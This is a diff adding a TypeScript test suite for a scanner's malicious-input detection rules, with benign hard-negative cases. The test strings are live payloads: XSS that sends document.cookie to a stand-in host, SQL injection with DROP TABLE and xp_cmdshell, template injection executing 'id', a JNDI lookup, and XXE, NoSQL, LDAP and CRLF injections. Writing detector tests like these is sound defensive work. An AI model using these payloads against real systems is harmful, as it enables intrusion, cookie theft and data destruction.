@@ -1,0 +1,151 @@
+import { strict as assert } from 'node:assert';
+import { runRule, type Rule } from '../../../daemon/src/engine/rules/rule';
+import { TextView } from '../../../daemon/src/engine/normalize/text-view';
+import { maliciousInputRules } from '../../../daemon/src/engine/rules/malicious-input';
+import { scanMessage } from '../../../daemon/src/engine/scan';
+
+function rule(id: string): Rule {
+  const r = maliciousInputRules.find((x) => x.id === id);
+  assert.ok(r, `rule ${id} exists`);
+  return r;
+}
+
+function matches(id: string, text: string) {
+  return runRule(rule(id), TextView.identity('folded', text.toLowerCase()), {});
+}
+
+function best(id: string, text: string): number {
+  return Math.max(0, ...matches(id, text).map((m) => m.confidence));
+}
+
+function familyBest(text: string): { id: string; conf: number } {
+  let top = { id: '', conf: 0 };
+  for (const r of maliciousInputRules) {
+    const c = Math.max(0, ...runRule(r, TextView.identity('folded', text.toLowerCase()), {}).map((m) => m.confidence));
+    if (c > top.conf) top = { id: r.id, conf: c };
+  }
+  return top;
+}
+
+const FLAG = 0.6;
+
+describe('malicious-input rules', () => {
+  it('every rule has metadata, an inj- id, LLM05 and global patterns', () => {
+    for (const r of maliciousInputRules) {
+      assert.match(r.id, /^inj-[a-z0-9-]+$/);
+      assert.equal(r.category, 'malicious_input');
+      assert.equal(r.owasp, 'LLM05:2025');
+      assert.ok(r.keywords && r.keywords.length > 0);
+      for (const p of r.patterns ?? []) assert.ok(p.global, `${r.id} pattern ${String(p)} has the g flag`);
+    }
+  });
+
+  describe('XSS', () => {
+    const cases: [string, string][] = [
+      ['inj-xss-script-tag', '<script>alert(document.domain)</script>'],
+      ['inj-xss-script-tag', '"><script src=//x.example/a.js></script>'],
+      ['inj-xss-script-tag', '<ScRiPt>fetch("//x.example/?c="+document.cookie)</sCrIpT>'],
+      ['inj-xss-event-handler', '<img src=x onerror=alert(1)>'],
+      ['inj-xss-event-handler', '<svg/onload=confirm`1`>'],
+      ['inj-xss-event-handler', '" autofocus onfocus="alert(1)'],
+      ['inj-xss-event-handler', '<body onload=eval(atob("YWxlcnQoMSk="))>'],
+      ['inj-xss-javascript-url', '<a href="javascript:alert(1)">click</a>'],
+      ['inj-xss-javascript-url', '[profile](javascript:prompt(document.cookie))'],
+      ['inj-xss-javascript-url', '<a href="jav&#x09;ascript:void(fetch(1))">x</a>'],
+      ['inj-xss-html-injection', '<iframe srcdoc="<img src=x onerror=alert(1)>"></iframe>'],
+      ['inj-xss-html-injection', '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>'],
+      ['inj-xss-html-injection', '<div style="width: expression(alert(1))">'],
+      ['inj-xss-js-string-breakout', "';alert(1);//"],
+    ];
+    for (const [id, text] of cases) it(`${id}: ${text.slice(0, 50)}`, () => assert.ok(best(id, text) >= FLAG, String(best(id, text))));
+
+    it('points the span at the event handler', () => {
+      const text = 'Bio: <img src=x onerror=alert(1)> thanks';
+      const m = matches('inj-xss-event-handler', text);
+      assert.equal(text.slice(m[0].start, m[0].end), 'onerror=');
+    });
+  });
+
+  describe('SQL injection', () => {
+    const cases: [string, string][] = [
+      ['inj-sqli-tautology', "' or 1=1--"],
+      ['inj-sqli-tautology', "admin' OR 'a'='a"],
+      ['inj-sqli-tautology', '" or ""="'],
+      ['inj-sqli-union', "' UNION SELECT NULL,username,password FROM users--"],
+      ['inj-sqli-union', '-1 union/**/select 1,2,@@version'],
+      ['inj-sqli-stacked-query', "x'; DROP TABLE accounts;--"],
+      ['inj-sqli-stacked-query', "'; EXEC xp_cmdshell 'dir'--"],
+      ['inj-sqli-blind-probe', "1' AND SLEEP(5)-- -"],
+      ['inj-sqli-blind-probe', "'; WAITFOR DELAY '0:0:5'--"],
+      ['inj-sqli-blind-probe', '1 AND BENCHMARK(5000000,MD5(1))'],
+      ['inj-sqli-comment-bypass', "admin'--"],
+      ['inj-sqli-constant-probe', 'ORDER BY 9--'],
+    ];
+    for (const [id, text] of cases) it(`${id}: ${text}`, () => assert.ok(best(id, text) >= FLAG, String(best(id, text))));
+
+    it('points the span at the break-out and tautology', () => {
+      const text = "username: bob' or 1=1-- and password anything";
+      const m = matches('inj-sqli-tautology', text);
+      assert.equal(text.slice(m[0].start, m[0].end), "' or 1=1");
+    });
+  });
+
+  describe('template, NoSQL, LDAP, XXE, CRLF, JNDI', () => {
+    const cases: [string, string][] = [
+      ['inj-template-injection', '{{7*7}}'],
+      ['inj-template-injection', "{{''.__class__.__mro__[1].__subclasses__()}}"],
+      ['inj-template-injection', '{{config.items()}}'],
+      ['inj-template-injection', '<%= 7*7 %>'],
+      ['inj-template-injection', "{% import os %}{{ os.popen('id').read() }}"],
+      ['inj-template-injection', '${T(java.lang.Runtime).getRuntime().exec("id")}'],
+      ['inj-jndi-lookup', '${jndi:ldap://203.0.113.5/a}'],
+      ['inj-jndi-lookup', '${${lower:j}ndi:rmi://x/y}'],
+      ['inj-nosql-injection', '{"username": "admin", "password": {"$ne": null}}'],
+      ['inj-nosql-injection', 'login?user=admin&pass[$ne]=x'],
+      ['inj-nosql-injection', "'; return true; var z='"],
+      ['inj-ldap-xpath-injection', '*)(uid=*))(|(uid=*'],
+      ['inj-ldap-xpath-injection', 'admin)(&)'],
+      ['inj-xxe', '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hostname">]><r>&x;</r>'],
+      ['inj-crlf-header', '/redirect?to=%0d%0aSet-Cookie:%20admin=1'],
+    ];
+    for (const [id, text] of cases) it(`${id}: ${text.slice(0, 50)}`, () => assert.ok(best(id, text) >= FLAG, String(best(id, text))));
+  });
+
+  describe('hard negatives', () => {
+    const benign = [
+      'How do I prevent SQL injection in Node? Use parameterized queries such as db.query("SELECT * FROM users WHERE id = $1", [id]).',
+      'cursor.execute("SELECT name FROM users WHERE id = %s AND active = %s", (user_id, True))',
+      "Content-Security-Policy: default-src 'self'; script-src 'self' https://cdn.example.com",
+      '// strip <script> tags before rendering\nconst clean = DOMPurify.sanitize(html);',
+      "assert.equal(escapeHtml('<script>alert(1)</script>'), '&lt;script&gt;alert(1)&lt;/script&gt;');",
+      'Cross-site scripting (XSS) happens when an application includes untrusted data in a page without escaping it, for example an attacker-controlled <script> element.',
+      '<script src="/static/app.min.js"></script>\n<button onclick="saveDraft()">Save</button>',
+      '<a href="javascript:void(0)" onclick="toggleMenu()">Menu</a>',
+      'What is 7*7?',
+      'SELECT u.name, o.total FROM users u JOIN orders o ON o.user_id = u.id WHERE o.total > 100 ORDER BY o.total DESC',
+      "SELECT id FROM a UNION SELECT id FROM b -- merge both lists",
+      'The price is $7*7 = $49 and the total is {total}.',
+      'db.orders.find({ status: { $ne: "archived" } })',
+      'I read "JavaScript: The Good Parts" last year.',
+      'const url = `${base}/api/${version}`;',
+      'Dear {{ user.first_name }}, your order {{ order.id }} has shipped.',
+      'if (a == 1 && b == 2) { return true; }',
+    ];
+    for (const b of benign) {
+      it(`does not flag: ${b.slice(0, 60)}`, () => {
+        const top = familyBest(b);
+        assert.ok(top.conf < FLAG, `${top.id} scored ${top.conf}`);
+      });
+    }
+  });
+
+  it('scanMessage flags a bare payload as malicious input with the finding on the original text', () => {
+    const text = 'Name: <svg/onload=alert(1)>';
+    const v = scanMessage(text);
+    assert.equal(v.flagged, true);
+    assert.equal(v.category, 'malicious_input');
+    const f = v.findings.find((x) => x.ruleId === 'inj-xss-event-handler');
+    assert.ok(f);
+    assert.equal(text.slice(f.start, f.end), 'onload=');
+  });
+});
